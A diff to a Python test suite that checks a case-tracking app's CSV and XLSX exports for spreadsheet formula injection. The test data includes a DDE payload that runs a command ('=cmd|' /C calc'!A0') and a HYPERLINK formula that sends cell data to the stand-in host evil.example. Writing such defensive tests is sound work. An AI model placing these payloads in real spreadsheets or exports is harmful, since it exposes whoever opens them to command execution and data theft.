@@ -12,7 +12,7 @@ from tests.hostile.lines import read_lines
 from tests.hostile.wire import Reply, as_json, form, multipart
 from tests.rooms.county import AREA
 
-STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "=cmd|' /C calc'!A0")
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "=cmd|' /C calc'!A0")
 FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
 SHEETS = {line.path for line in read_lines() if line.path.endswith(".xlsx")} | {"/looks/export"}
 
@@ -81,15 +81,17 @@ def test_every_workbook_of_the_house_is_looked_at() -> None:
 
 @pytest.mark.parametrize("kind", ["xlsx", "csv"])
 def test_the_trail_as_a_sheet_holds_no_formula(ground: Ground, kind: str) -> None:
-    taken = ground.send("clerk", "POST", f"/api/v1/cases/{ground.things['fresh']}/take", ("application/json", b'{"note": "=1+1"}'))
-    done(taken)
-    reply = ground.send("supervisor", "POST", "/looks/export", form({"who": "clerk", "form": kind}))
+    for n, start in enumerate(STARTS):
+        act = "take" if n % 2 == 0 else "release"
+        done(ground.send("clerk", "POST", f"/api/v1/cases/{ground.things['fresh']}/{act}", as_json({"note": f"{start}1+1"})))
+    reply = ground.send("supervisor", "POST", "/looks/export", form({"person": "clerk", "kind": "all", "form": kind}))
     if kind == "xlsx":
         cells(reply)
         return
     text = done(reply).body.decode("utf-8-sig")
     found = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-    assert [cell for cell in found if cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert [cell for cell in found if cell.lstrip()[:1] and cell.lstrip()[0] in "=+-@＝＋－＠"] == []
+    assert len([cell for cell in found if "1+1" in cell]) >= 7, "what was noted is there"
 
 
 def test_a_sheet_is_a_file_to_keep_and_is_never_shown_as_a_page(ground: Ground) -> None:
